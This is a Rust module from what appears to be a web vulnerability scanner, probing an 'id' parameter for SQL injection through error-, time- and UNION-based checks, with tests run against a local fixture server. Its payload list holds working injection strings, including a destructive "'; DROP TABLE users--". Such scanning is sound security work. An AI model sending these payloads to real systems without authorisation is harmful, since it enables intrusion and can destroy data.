use std::time::Duration;

use async_trait::async_trait;
use once_cell::sync::Lazy;
use regex::Regex;
use reqwest::Client;
use tokio::time::Instant;

use super::{excerpt, new_match, target_of, with_param, Probe};
use crate::error::ModuleError;
use crate::exploits::{
    ExecutionMode, ExploitKind, ExploitModule, ModuleOutput, ScanOptions, Severity, Subject,
    Vulnerability,
};

const KIND: &str = "SQL injection";
const PARAM: &str = "id";
const FIX: &str = "Use parameterized queries and suppress database errors in responses.";

/// Response delay beyond the baseline that counts as an injected sleep.
const SLEEP_THRESHOLD: Duration = Duration::from_secs(4);
/// Body growth beyond the baseline that suggests a UNION returned rows.
const UNION_GROWTH: usize = 1000;

const PAYLOADS: &[&str] = &[
    "' OR '1'='1",
    "' OR 1=1--",
    "' UNION SELECT NULL--",
    "'; DROP TABLE users--",
    "' OR SLEEP(5)--",
    "1' AND (SELECT SUBSTRING(@@version,1,1))='5'--",
];

static DB_ERRORS: Lazy<Vec<Regex>> = Lazy::new(|| {
    [
        r"(?i)mysql_fetch_array",
        r"ORA-\d{5}",
        r"(?i)Microsoft.*ODBC.*SQL Server",
        r"(?i)PostgreSQL.*ERROR",
        r"(?i)Warning.*mysql_",
        r"(?i)valid MySQL result",
        r"(?i)MySqlClient\.",
        r"(?i)SQLITE_ERROR|sqlite3\.OperationalError",
        r"(?i)syntax error",
        r"(?i)unexpected end of SQL command",
    ]
    .iter()
    .map(|p| Regex::new(p).unwrap())
    .collect()
});

/// Error-, time- and union-based probes on the `id` parameter.
pub struct SqlInjectionProbe {
    client: Client,
}

impl SqlInjectionProbe {
    pub fn new(client: Client) -> Self {
        Self { client }
    }
}

#[async_trait]
impl ExploitModule for SqlInjectionProbe {
    fn mode(&self) -> ExecutionMode {
        ExecutionMode::Live
    }

    async fn run(
        &self,
        subject: &Subject,
        options: &ScanOptions,
        deadline: Instant,
    ) -> Result<ModuleOutput, ModuleError> {
        let target = target_of(subject, ExploitKind::SqlInjection)?;
        let probe = Probe::new(&self.client, options, deadline);
        let baseline = probe.baseline(target).await?;

        let mut findings = Vec::new();
        let (mut error_seen, mut time_seen, mut union_seen) = (false, false, false);

        for payload in PAYLOADS {
            probe.ensure_time()?;
            let url = with_param(target, PARAM, payload);
            let Some(response) = probe.attempt(probe.client().get(url.clone())).await? else {
                continue;
            };

            if !error_seen {
                if let Some(matched) = new_match(&DB_ERRORS, &response.body, &baseline.body) {
                    error_seen = true;
                    findings.push(
                        Vulnerability::new(
                            KIND,
                            Severity::High,
                            url.as_str(),
                            "Database error message disclosed in response to an injected quote",
                        )
                        .with_payload(*payload)
                        .with_evidence(excerpt(&response.body, matched))
                        .with_recommendation(FIX)
                        .with_cwe("CWE-89"),
                    );
                }
            }

            if !time_seen
                && payload.contains("SLEEP")
                && response.elapsed > baseline.elapsed + SLEEP_THRESHOLD
            {
                time_seen = true;
                findings.push(
                    Vulnerability::new(
                        KIND,
                        Severity::Critical,
                        url.as_str(),
                        "Time-based blind SQL injection",
                    )
                    .with_payload(*payload)
                    .with_evidence(format!(
                        "Response took {} ms against a {} ms baseline",
                        response.elapsed.as_millis(),
                        baseline.elapsed.as_millis()
                    ))
                    .with_recommendation(FIX)
                    .with_cwe("CWE-89"),
                );
            }

            if !union_seen
                && payload.contains("UNION")
                && response.status.is_success()
                && response.body.len() > baseline.body.len() + UNION_GROWTH
            {
                union_seen = true;
                findings.push(
                    Vulnerability::new(
                        KIND,
                        Severity::Critical,
                        url.as_str(),
                        "UNION-based SQL injection",
                    )
                    .with_payload(*payload)
                    .with_evidence(format!(
                        "Response grew from {} to {} bytes",
                        baseline.body.len(),
                        response.body.len()
                    ))
                    .with_recommendation(FIX)
                    .with_cwe("CWE-89"),
                );
            }
        }

        Ok(ModuleOutput::new(findings, 0))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::exploits::live::fixture;
    use axum::{extract::Query, routing::get, Router};
    use std::collections::HashMap;

    async fn products(Query(q): Query<HashMap<String, String>>) -> String {
        match q.get("id") {
            Some(id) if id.contains('\'') => {
                "Warning: mysql_fetch_array() expects parameter 1 to be resource".into()
            }
            _ => "<h1>Products</h1>".into(),
        }
    }

    #[tokio::test]
    async fn detects_error_disclosure() {
        let url = fixture::serve(Router::new().route("/", get(products))).await;
        let module = SqlInjectionProbe::new(fixture::client());
        let output = module
            .run(&Subject::Target(url), &ScanOptions::default(), fixture::deadline())
            .await
            .unwrap();
        assert_eq!(output.vulnerabilities.len(), 1);
        assert_eq!(output.vulnerabilities[0].kind, "SQL injection");
        assert_eq!(output.vulnerabilities[0].severity, Severity::High);
    }

    #[tokio::test]
    async fn quiet_target_has_no_findings() {
        let url = fixture::serve(Router::new().route("/", get(|| async { "ok" }))).await;
        let module = SqlInjectionProbe::new(fixture::client());
        let output = module
            .run(&Subject::Target(url), &ScanOptions::default(), fixture::deadline())
            .await
            .unwrap();
        assert!(output.vulnerabilities.is_empty());
    }

    #[tokio::test]
    async fn unreachable_target_fails_module() {
        let module = SqlInjectionProbe::new(fixture::client());
        let err = module
            .run(
                &Subject::Target(fixture::closed_url().await),
                &ScanOptions::default(),
                fixture::deadline(),
            )
            .await
            .unwrap_err();
        assert!(matches!(err, ModuleError::Unreachable(_)));
    }
}
